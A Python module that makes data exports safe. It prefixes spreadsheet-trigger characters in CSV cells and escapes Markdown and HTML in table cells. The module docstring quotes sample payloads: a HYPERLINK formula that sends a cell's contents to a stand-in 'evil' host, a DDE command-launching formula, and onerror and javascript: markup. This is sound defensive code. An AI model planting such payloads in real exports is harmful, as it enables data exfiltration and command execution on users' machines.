"""Exports that are safe to open in a spreadsheet or to render as Markdown.

Query texts, ids and chunk text come from uploaded files; a cell such as
``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` becomes a
live formula when a CSV export is opened in Excel, LibreOffice or Google
Sheets (CSV / formula injection, CWE-1236). Following OWASP, every *text* cell
(and header) whose first character is ``=``, ``+``, ``-``, ``@``, a tab, a
carriage return or a line feed - also after leading spaces, and the full-width
forms ``＝ ＋ － ＠`` - is prefixed with a single quote, which spreadsheets show
as text and do not evaluate.

Numbers are never changed: numeric columns (``-0.25`` stays ``-0.25``), and
text cells that are exactly a number (``"-3"``, ``"+1.5e-3"``, ``"-12%"``)
are left alone as well, since a spreadsheet reads them as plain numbers.

The dashboard uses :func:`to_safe_csv` for every download (see
``dashboard/ui/layout.py``), the command line for ``--format csv``.

Markdown (:func:`markdown_cell`, :func:`markdown_table`) is rendered by
GitHub, GitLab and notebooks, which pass inline HTML through: a cell holding
``<img src=x onerror=...>`` or ``[text](javascript:...)`` would become markup.
Every text cell has ``&`` and ``<`` escaped and its Markdown punctuation backslash-escaped,
so it renders as the text it is; a line break becomes a space.
"""

from __future__ import annotations

import csv
import re
from typing import Any

import pandas as pd

#: characters that make a spreadsheet evaluate a cell (OWASP, plus LF and full-width forms)
TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
_TRIGGER_RE = re.compile(r"^[ \u00a0]*[" + re.escape(TRIGGERS) + "]")
_NUMBER_RE = re.compile(r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?%?$")
_TRIGGER_PATTERN = r"^[ \u00a0]*[" + re.escape(TRIGGERS) + "]"
_NUMBER_PATTERN = _NUMBER_RE.pattern


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula."""
    return bool(_TRIGGER_RE.match(text)) and not _NUMBER_RE.match(text)


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would evaluate.

    Anything that is not a ``str`` (numbers, None, NaN, dates) is returned as is.
    """
    if isinstance(value, str) and is_dangerous(value):
        return "'" + value
    return value


def _neutralise_series(values: pd.Series) -> pd.Series:
    kind = values.dtype
    if (
        pd.api.types.is_numeric_dtype(kind)
        or pd.api.types.is_bool_dtype(kind)
        or pd.api.types.is_datetime64_any_dtype(kind)
        or pd.api.types.is_timedelta64_dtype(kind)
    ):
        return values
    if isinstance(kind, pd.CategoricalDtype):
        values = values.astype(object)
    if values.dtype == object:  # only the str cells are text
        is_text = values.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
        if not is_text.any():
            return values
        text = values.where(is_text, "").astype("str")
    else:  # a string dtype
        is_text = values.notna().to_numpy(dtype=bool)
        text = values.astype("str")
    trigger = text.str.contains(_TRIGGER_PATTERN, regex=True, na=False).to_numpy(dtype=bool)
    if not (trigger & is_text).any():
        return values
    number = text.str.fullmatch(_NUMBER_PATTERN, na=False).to_numpy(dtype=bool)
    danger = trigger & is_text & ~number
    if not danger.any():
        return values
    out = values.astype(object).copy()
    out[danger] = ("'" + text[danger]).to_numpy(dtype=object)
    return out


def _neutralise_labels(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return pd.MultiIndex.from_tuples(
            [tuple(neutralise(v) for v in labels) for labels in index], names=[neutralise(n) for n in index.names]
        )
    if index.dtype == object or pd.api.types.is_string_dtype(index.dtype):
        return pd.Index([neutralise(v) for v in index], name=neutralise(index.name), dtype=object)
    return index.rename(neutralise(index.name))


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised."""
    out = pd.DataFrame({i: _neutralise_series(frame.iloc[:, i]) for i in range(frame.shape[1])}, index=frame.index)
    out.columns = _neutralise_labels(frame.columns)
    out.index = _neutralise_labels(frame.index)
    return out


def to_safe_csv(
    frame: pd.DataFrame, *, index: bool = False, encoding: str | None = "utf-8-sig", **to_csv: Any
) -> bytes | str:
    """CSV of ``frame`` with formula injection neutralised.

    Every text cell is quoted (``csv.QUOTE_NONNUMERIC``, as OWASP advises):
    with pandas' default ``\n`` line ending a cell holding a lone ``\r`` would
    otherwise be written bare, and a spreadsheet would start a new row (and a
    new, unneutralised cell) in the middle of it. Numbers stay bare.

    Returns bytes in ``encoding`` (default UTF-8 with a BOM, which Excel needs
    to read non-ASCII text), or a ``str`` when ``encoding=None``. Other keyword
    arguments go to :meth:`pandas.DataFrame.to_csv` (``sep``, ``float_format``...).
    """
    to_csv.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    text = safe_frame(frame).to_csv(index=index, **to_csv)
    return text if encoding is None else text.encode(encoding)


# what makes inline markup inside a line (code, emphasis, a link or image, which an opening bracket starts,
# strike-through, a cell's end); block markup (headings, lists) needs a line start, which a cell or a prefixed line
# never gives it; an underscore inside a word (query_id) is no emphasis
_MARKDOWN_PUNCTUATION = re.compile(r"([\\`*\[|~]|(?<![0-9A-Za-z])_|_(?![0-9A-Za-z]))")


def markdown_cell(value: Any) -> str:
    """``value`` as text that renders as itself in a Markdown table cell (see the module docstring)."""
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")  # no tag, comment or entity can start
    text = _MARKDOWN_PUNCTUATION.sub(r"\\\1", text)
    return re.sub(r"[\r\n]+", " ", text)


def markdown_table(frame: pd.DataFrame, *, float_format: str = "{:.4f}") -> str:
    """A GitHub-flavoured Markdown table of ``frame`` (no index): numbers right-aligned in ``float_format``, text
    escaped by :func:`markdown_cell`."""

    def cell(value: Any) -> str:
        if isinstance(value, float):
            return "" if value != value else float_format.format(value)
        return markdown_cell(value)

    numeric = [pd.api.types.is_numeric_dtype(frame[c].dtype) for c in frame.columns]
    lines = [
        "| " + " | ".join(markdown_cell(c) for c in frame.columns) + " |",
        "|" + "|".join("---:" if n else "---" for n in numeric) + "|",
    ]
    lines += ["| " + " | ".join(cell(v) for v in row) + " |" for row in frame.itertuples(index=False)]
    return "\n".join(lines) + "\n"


__all__ = ["TRIGGERS", "is_dangerous", "markdown_cell", "markdown_table", "neutralise", "safe_frame", "to_safe_csv"]
